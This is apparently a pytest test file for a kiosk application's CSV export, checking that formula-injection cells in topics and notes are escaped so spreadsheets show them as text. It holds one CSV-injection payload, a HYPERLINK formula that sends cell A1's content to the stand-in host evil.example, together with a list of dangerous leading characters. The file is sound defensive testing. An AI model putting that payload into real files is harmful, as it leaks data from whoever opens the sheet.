"""A formula typed as a topic or a note is text in the sheet somebody opens."""

from __future__ import annotations

import csv
import io
import re
import unicodedata
from pathlib import Path

import pytest
from click.testing import CliRunner
from hypothesis import given
from hypothesis import strategies as st

from kiosk.cli.server.export import export
from kiosk.journal import LogEvent
from kiosk.server.home import Home
from kiosk.server.reports import export as sheet
from tests.conftest import ExpectLog
from tests.server.desk_side import DeskClient
from tests.server.station_side import StationSide

FORMULA = "=HYPERLINK(CONCATENATE(\"http://evil.example/\",A1),'Open me')"
SUM = "-2-3"
"""As far as a formula gets on the wire, where a topic is small letters, digits and dashes."""
DANGEROUS = tuple("=+-@\t\r")


def exported(home: Home, data: Path) -> list[list[str]]:
    """What a sheet shows of today with notes, as the command writes it."""
    config = data.with_name("site.toml")
    config.write_text('id = "lab"\nname = "The Lab"', "utf-8")
    day = home.store.site.day(home.store.now())
    words = ["--from", day, "--to", day, "--notes", "--config", str(config)]
    done = CliRunner().invoke(export, words)
    assert done.exit_code == 0, done.output
    return list(csv.reader(io.StringIO(done.stdout_bytes.decode("utf-8-sig"), newline="")))


def test_a_formula_in_topic_and_note_is_shown_and_never_computed(
    sender: StationSide, maya: DeskClient, home: Home, data: Path, expect_log: ExpectLog
) -> None:
    expect_log(LogEvent.CLOCK_DOUBTED, maybe=True)  # the command has another clock than the home
    visit = sender.arrives("=Ada", facts={"number": "B1", "station": "B", "topic": SUM})
    maya.does("call", visit)
    maya.finishes(visit, f'{FORMULA}\r\n=2+2, "quoted"')

    [_head, row] = exported(home, data)

    assert [cell for cell in row if cell.startswith(DANGEROUS)] == []
    assert row[3] == f"'{SUM}"
    assert row[-1] == f"'{FORMULA}\r\n'=2+2, \"quoted\""
    assert "Ada" not in str(row)


@pytest.mark.parametrize(
    ("cell", "escaped"),
    [
        ("=1+1", "'=1+1"),
        (";=1+1", "';'=1+1"),
        ("\n=1+1", "'\n'=1+1"),
        ("\uff1d1+1", "'\uff1d1+1"),
        ("\ufeff=1", "'\ufeff=1"),
        (" \u200b=1", "' \u200b=1"),
        ("\u22122", "'\u22122"),
        ("lamp;-2+3", "lamp;'-2+3"),
        ("lamp\t@SUM(A1)", "lamp\t'@SUM(A1)"),
        ('"=1"', '\'"=1"'),
        ("a = b - c; d", "a = b - c; d"),
        ("Zoë, -5 degrees", "Zoë, -5 degrees"),
        ("", ""),
    ],
)
def test_what_a_sheet_could_take_for_a_formula_is_text(cell: str, escaped: str) -> None:
    assert sheet.escape_formula(cell) == escaped


BLANKS = st.text(' \xa0\u3000\ufeff\u200b\x00\x1f"\u2028', max_size=3)
STARTS = st.sampled_from([*"=+-@", "\uff1d", "\uff0b", "\uff0d", "\uff20", "\ufe62", "\u2212"])


@given(st.text() | st.text("a=;,\t\r\n -@+'\""), st.sampled_from(";|\t\r\n"), BLANKS, STARTS)
def test_no_part_of_a_cell_begins_as_a_formula_does_whatever_the_separator(
    before: str, separator: str, blanks: str, start: str
) -> None:
    written = sheet.escape_formula(f"{before}{separator}{blanks}{start}{before}")

    assert isinstance(written, str)
    assert not written.startswith((*DANGEROUS, "\n"))
    for part in re.split(r"[;|\t\r\n]", written):
        seen = "".join(each for each in part if each.isprintable()).replace('"', "").strip()
        assert unicodedata.normalize("NFKC", seen)[:1] not in {*"=+-@", "\u2212"}


@given(st.text().filter(str.isalnum) | st.text("abc äß,.!?()", max_size=9))
def test_ordinary_words_stay_as_they_are(text: str) -> None:
    assert sheet.escape_formula(text) == text


def test_a_sheet_that_lets_formulas_through_would_be_found(
    sender: StationSide,
    home: Home,
    data: Path,
    monkeypatch: pytest.MonkeyPatch,
    expect_log: ExpectLog,
) -> None:
    expect_log(LogEvent.CLOCK_DOUBTED, maybe=True)  # as above
    monkeypatch.setattr(sheet, "escape_formula", lambda cell: cell)
    sender.arrives(facts={"number": "B1", "station": "B", "topic": SUM})

    assert exported(home, data)[1][3].startswith(DANGEROUS)
